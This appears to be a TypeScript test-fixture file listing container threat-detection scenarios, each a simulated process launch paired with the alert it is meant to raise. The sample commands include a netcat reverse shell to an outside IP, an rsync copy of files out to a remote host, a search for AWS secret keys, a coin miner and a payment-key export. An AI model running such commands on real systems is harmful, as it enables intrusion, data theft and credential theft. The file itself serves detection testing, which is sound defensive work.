import { before, execve, type Scenario } from "./event_scenario.ts";

const SHIM = ["runc", "containerd-shim", "systemd"];
const SHELL = ["bash", ...SHIM];
const [SECOND, DAY] = [1_000_000_000n, 86_400_000_000_000n];

/** Programs that were started in containers. */
export const CONTAINER_PROCESS_SCENARIOS: readonly Scenario[] = [
  execve(
    "Terminal shell in container",
    { place: "cart", exe: "/usr/bin/bash", cmd: "bash -il", parents: SHIM, tty: 34816 },
    "Somebody opened an interactive shell in the cart",
  ),
  execve(
    "Terminal shell in container",
    {
      place: "payments",
      user: ["app", 10001],
      exe: "/usr/bin/bash",
      cmd: "bash",
      parents: SHIM,
      tty: 34817,
    },
    "Somebody opened an interactive shell in the payments API",
  ),
  execve(
    "Web Server Spawned Shell",
    {
      place: "web",
      user: ["nginx", 101],
      exe: "/bin/busybox",
      cmd: 'sh -c echo "привет, мир" > /tmp/наблюдатель.txt',
      parents: ["nginx", "nginx", "containerd-shim"],
    },
    "The web server started a shell",
  ),
  execve(
    "Find AWS Credentials",
    {
      place: "payments",
      user: ["app", 10001],
      exe: "/usr/bin/grep",
      cmd: "grep -rn aws_secret_access_key /srv/конфиг",
      parents: SHELL,
    },
    "A search for cloud credentials",
    { "proc.cwd": "/srv/", "group.gid": 10001, "group.name": "app", "user.loginname": "<NA>" },
  ),
  execve(
    "Drop and execute new binary in container",
    {
      place: "web",
      exe: "/tmp/xmrig",
      cmd: "xmrig -o pool",
      parents: ["sh", "nginx", "containerd-shim"],
    },
    "A program that is not in the image was started",
    {
      "evt.arg.flags": "EXE_WRITABLE|EXE_UPPER_LAYER",
      "proc.exe_ino.ctime": before(3n * SECOND + 141n),
      "proc.exe_ino.mtime": before(3n * SECOND + 592n),
      "proc.exe_ino.ctime_duration_proc_start": 2_999_999_653,
      "container.start_ts": before(11n * DAY + 7n),
    },
  ),
  execve(
    "Fileless execution via memfd_create",
    {
      place: "redis",
      exe: "memfd:runc",
      cmd: "3 /proc/self/fd/6",
      parents: ["redis-server", "containerd-shim"],
    },
    "A program was started that exists in memory only",
    {
      "evt.arg.flags": "EXE_WRITABLE|EXE_FROM_MEMFD",
      "evt.res": "SUCCESS",
      "container.start_ts": before(2n * DAY + 1n),
    },
  ),
  execve(
    "Known Cryptominer Process Executed",
    {
      place: "web",
      exe: "/tmp/xmrig",
      cmd: "xmrig --url pool.example:3333 --user 4ÄÖÜ… --cpu-priority 0",
      parents: ["sh", "nginx"],
    },
    "A coin miner is running",
  ),
  execve(
    "Launch Package Management Process in Container",
    { place: "cart", exe: "/usr/bin/apt-get", cmd: "apt-get install -y nmap", parents: SHELL },
    "Software was installed in a running container",
  ),
  execve(
    "Launch Suspicious Network Tool in Container",
    { place: "cart", exe: "/usr/bin/nmap", cmd: "nmap -sS 10.244.0.0/16", parents: SHELL },
    "A port scanner was started in a container",
  ),
  execve(
    "Launch Remote File Copy Tools in Container",
    {
      place: "payments",
      exe: "/usr/bin/rsync",
      cmd: "rsync -a /srv/rechnungen/März backup@198.51.100.24::in",
      parents: SHELL,
    },
    "Files are being copied out of a container",
  ),
  execve(
    "Netcat Remote Code Execution in Container",
    {
      place: "cart",
      exe: "/usr/bin/nc.openbsd",
      cmd: "nc -e /bin/sh 203.0.113.66 4444",
      parents: SHELL,
    },
    "A shell was tied to a network connection",
  ),
  execve(
    "Debugfs Launched in Privileged Container",
    {
      place: "agent",
      exe: "/usr/sbin/debugfs",
      cmd: "debugfs -w /dev/nvme0n1p1",
      parents: ["sh", "containerd-shim"],
    },
    "A container edits the node's file system",
  ),
  execve(
    "Launch Privileged Container",
    { place: "agent", exe: "/usr/bin/tini", cmd: "tini -- agent", parents: ["containerd-shim"] },
    "A container started with all privileges",
  ),
  execve(
    "Launch Excessively Capable Container",
    { place: "agent", exe: "/agent", cmd: "agent --host-root=/host", parents: ["containerd-shim"] },
    "A container started with more capabilities than it needs",
    { "thread.cap_permitted": "CAP_CHOWN CAP_NET_ADMIN CAP_SYS_ADMIN CAP_SYS_PTRACE" },
  ),
  execve(
    "Container Run as Root User",
    {
      place: "redis",
      exe: "/usr/bin/docker-entrypoint.sh",
      cmd: "docker-entrypoint.sh redis-server",
      parents: [],
    },
    "A container's first process is root",
  ),
  execve(
    "Decoding Payload in Container",
    {
      place: "builder",
      exe: "/usr/bin/base64",
      cmd: "base64 -d /tmp/ペイロード.b64",
      parents: ["sh", "npm", "node"],
    },
    "A payload was decoded during a build",
  ),
  execve(
    "Payment key exported",
    {
      place: "payments",
      user: ["app", 10001],
      exe: "/usr/bin/openssl",
      cmd: 'openssl pkcs12 -in zahlung.p12 -passin "pass:…" -nodes',
      parents: SHELL,
      tty: 34817,
    },
    "The payment key left its store",
  ),
];
